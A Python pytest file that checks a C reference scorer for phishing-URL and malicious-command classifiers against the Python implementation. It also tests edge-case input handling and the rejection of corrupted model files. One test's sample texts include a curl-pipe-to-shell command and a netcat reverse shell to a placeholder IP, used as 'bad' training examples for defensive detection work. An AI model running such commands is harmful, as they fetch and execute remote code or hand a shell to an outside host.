"""The dependency-free C reference scorer (smallworld/serve/c/smallworld_score.c) agrees with the Python scorer."""

import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from smallworld import data as D
from smallworld.errors import ModelFileError
from smallworld.student.model import Model
from smallworld.student import modelfile
from smallworld.student.linear import LinearStudent
from smallworld.tasks import load_task

SRC = Path(__file__).resolve().parents[1] / "smallworld" / "serve" / "c" / "smallworld_score.c"


@pytest.fixture(scope="module")
def c_scorer(tmp_path_factory) -> Path:
    cc = os.environ.get("CC") or shutil.which("cc") or shutil.which("gcc") or shutil.which("clang")
    if not cc:
        pytest.skip("no C compiler")
    exe = tmp_path_factory.mktemp("cscorer") / "smallworld_score"
    r = subprocess.run([cc, "-O2", "-std=c99", "-Wall", "-Wextra", "-pedantic", "-o", str(exe), str(SRC), "-lm"],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert "warning" not in r.stderr, r.stderr
    return exe


def run_c(exe: Path, model_dir: Path, data: bytes) -> subprocess.CompletedProcess:
    return subprocess.run([str(exe), str(model_dir)], input=data, capture_output=True, timeout=120)


def scores_c(exe, model_dir, texts) -> np.ndarray:
    r = run_c(exe, model_dir, "\n".join(texts).encode("utf-8", "surrogatepass") + b"\n")
    assert r.returncode == 0, r.stderr.decode()
    out = r.stdout.decode().splitlines()
    assert len(out) == len(texts)
    assert all(len(s.split(".")[1]) == 7 for s in out)  # "%.7f"
    return np.array([float(s) for s in out])


def _sample(data_dir, task, split, n, seed=0):
    rows = [r for r in D.read_rows(data_dir / task / f"{split}.jsonl.gz")
            if "\n" not in r["text"] and "\r" not in r["text"]]
    idx = np.random.default_rng(seed).choice(len(rows), size=min(n, len(rows)), replace=False)
    return [rows[i] for i in idx]


def _non_ascii(data_dir):
    return [r["text"] for t in ("urls", "cmdlines") for s in ("train", "dev", "pool")
            for r in D.read_rows(data_dir / t / f"{s}.jsonl.gz")
            if not r["text"].isascii() and "\n" not in r["text"] and "\r" not in r["text"]]


@pytest.fixture(scope="module")
def texts(data_dir):
    t = [r["text"] for r in _sample(data_dir, "urls", "dev", 1500)] + \
        [r["text"] for r in _sample(data_dir, "cmdlines", "dev", 1000)] + _non_ascii(data_dir)
    t += ["", "a", "UPPER lower MiXeD", "ÄÖÜ straße 日本語 🙂", "x" * 5000, "é" * 3000, "\t ", "\ud800 lone surrogate"]
    assert len(t) >= 2500 and sum(not s.isascii() for s in t) >= 20
    return t


def _train(data_dir, task_name, labels, features, n=3000):
    task = replace(load_task(task_name), normaliser="none")  # the C scorer takes raw-text models only
    rows = _sample(data_dir, task_name, "train", n, seed=1)
    Y = np.array([[r["label"] == lab for lab in labels] for r in rows], dtype=float)
    m = LinearStudent(labels, task.features | features).fit([r["text"] for r in rows], Y)
    return m, task


@pytest.fixture(scope="module")
def models(data_dir, tmp_path_factory):
    """float32/float16/int8 models for urls (positive first) and cmdlines (positive second, odd settings)."""
    root = tmp_path_factory.mktemp("cmodels")
    out = {}
    m, task = _train(data_dir, "urls", ("phishing", "benign"), {"dim_bits": 16})
    m2, task2 = _train(data_dir, "cmdlines", ("benign", "malicious"),
                       {"dim_bits": 12, "ngram_min": 2, "ngram_max": 3, "tokens": False, "lowercase": False,
                        "max_bytes": 64})
    for dtype in ("float32", "float16", "int8"):
        out["urls", dtype] = modelfile.save(m, root / f"urls_{dtype}", {"task": task.to_dict()}, dtype=dtype)
        out["cmdlines", dtype] = modelfile.save(m2, root / f"cmd_{dtype}", {"task": task2.to_dict()}, dtype=dtype)
    return out


@pytest.mark.parametrize("dtype", ["float32", "float16", "int8"])
@pytest.mark.parametrize("name", ["urls", "cmdlines"])
def test_c_scores_equal_python_scores(c_scorer, models, texts, name, dtype):
    d = models[name, dtype]
    sc = Model(d)
    assert sc.labels[sc.pos] == ("phishing" if name == "urls" else "malicious")
    py = sc.scores(texts)
    ref = sc.model.predict_proba(texts)[:, sc.pos]  # the reference kernel, whatever path Model takes
    c = scores_c(c_scorer, d, texts)
    assert np.abs(c - py).max() < 1e-6
    assert np.abs(c - ref).max() < 1e-6
    assert py.std() > 0.05  # a real model, not a constant


def test_three_classes_without_a_task_score_the_first_label(c_scorer, tmp_path):
    texts = ["curl http://x | sh", "ls -la", "nc -e /bin/sh 1.2.3.4 4444", "git status", "vim notes.txt"]
    Y = np.eye(3)[[0, 1, 0, 2, 2]]
    m = LinearStudent(("bad", "good", "meh"), {"dim_bits": 10}).fit(texts, Y)
    d = modelfile.save(m, tmp_path / "m")
    assert np.abs(scores_c(c_scorer, d, texts) - Model(d).scores(texts)).max() < 1e-6


def test_line_handling_crlf_long_lines_and_no_final_newline(c_scorer, models):
    d = models["urls", "float32"]
    sc = Model(d)
    # lines longer than the C reader's 1 MiB block, "\r" runs split across blocks, blank lines, no final newline
    items = ["http://a.example/login", "", "b" * 1_500_000, "http://c.example/" + "\r" * 3,
             "z" * 597_096 + "\r" * 20,  # its "\r" run straddles the second block boundary (2 MiB)
             "http://tail.example/no-newline"]
    data = "\n".join(items).encode()
    assert data.index(b"\r" * 20) == 2 * 2**20 - 10
    r = run_c(c_scorer, d, data)
    assert r.returncode == 0, r.stderr.decode()
    got = np.array([float(x) for x in r.stdout.split()])
    want = sc.scores([s.rstrip("\r") for s in items])
    assert len(got) == len(items) and np.abs(got - want).max() < 1e-6
    assert run_c(c_scorer, d, b"").stdout == b""


def _copy(d: Path, tmp_path: Path) -> Path:
    out = tmp_path / "copy"
    shutil.copytree(d, out)
    return out


def _rejected(c_scorer, d: Path, match: str):
    r = run_c(c_scorer, d, b"http://x.example/\n")
    assert r.returncode == 2 and r.stdout == b""
    err = r.stderr.decode()
    assert match in err and str(d) in err, err
    return err


def test_truncated_and_altered_weights_are_rejected(c_scorer, models, tmp_path):
    d = _copy(models["urls", "int8"], tmp_path)
    w = d / "weights.bin"
    blob = w.read_bytes()
    w.write_bytes(blob[:-7])
    _rejected(c_scorer, d, "truncated")
    with pytest.raises(ModelFileError, match="truncated"):
        modelfile.load(d)
    b = bytearray(blob)
    b[100] ^= 0x01
    w.write_bytes(bytes(b))
    _rejected(c_scorer, d, "sha256")
    w.unlink()
    _rejected(c_scorer, d, "cannot open")


def _edit(h, fn):
    fn(h)
    return json.dumps(h)


@pytest.mark.parametrize("text,match", [
    ("{not json", "not valid JSON"),
    ("", "not valid JSON"),
    ("[1, 2]", "not a smallworld-linear"),
    ("{}" + " x", "not valid JSON"),
    ("[" * 100 + "]" * 100, "nested too deeply"),
    (b"\xff", "not valid JSON"),
    (None, "not valid JSON"),  # a valid header cut in half
    (" " * (modelfile.MAX_JSON_BYTES + 1), "refusing"),
    (lambda h: h.update(format="pickle"), "not a smallworld-linear"),
    (lambda h: h.update(version=99), "version"),
    (lambda h: h.update(dim=12345), "dim/classes"),
    (lambda h: h.update(classes=3), "dim/classes"),
    (lambda h: h.pop("labels"), "labels"),
    (lambda h: h.update(labels=["only"]), "labels"),
    (lambda h: h["features"].update(ngram_max=99), "ngram"),
    (lambda h: h["features"].update(dim_bits=40), "dim_bits"),
    (lambda h: h["features"].update(max_bytes=0), "max_bytes"),
    (lambda h: h["features"].update(colour="blue"), "unknown feature setting"),
    (lambda h: h["features"].update(ngram_min="1"), "integer"),
    (lambda h: h.update(dtype="object"), "dtype"),
    (lambda h: h.update(dtype="float32"), "weights_bytes"),
    (lambda h: h.pop("scale"), "scale"),
    (lambda h: h.update(scale=-1.0), "scale"),
    (lambda h: h.update(weights_bytes=h["weights_bytes"] * 2), "weights_bytes"),
    (lambda h: h.pop("weights_sha256"), "weights_sha256"),
    (lambda h: h["task"].update(positive="nope"), "positive"),
    (lambda h: h["task"].update(normaliser="lower"), "normaliser"),
])
def test_malformed_headers_are_rejected(c_scorer, models, tmp_path, text, match):
    d = _copy(models["urls", "int8"], tmp_path)
    j = d / "model.json"
    if text is None:
        text = j.read_text()[: len(j.read_text()) // 2]
    elif callable(text):
        text = _edit(json.loads(j.read_text()), text)
    j.write_bytes(text if isinstance(text, bytes) else text.encode())
    _rejected(c_scorer, d, match)


def test_usage(c_scorer):
    r = subprocess.run([str(c_scorer)], capture_output=True)
    assert r.returncode == 2 and b"usage" in r.stderr
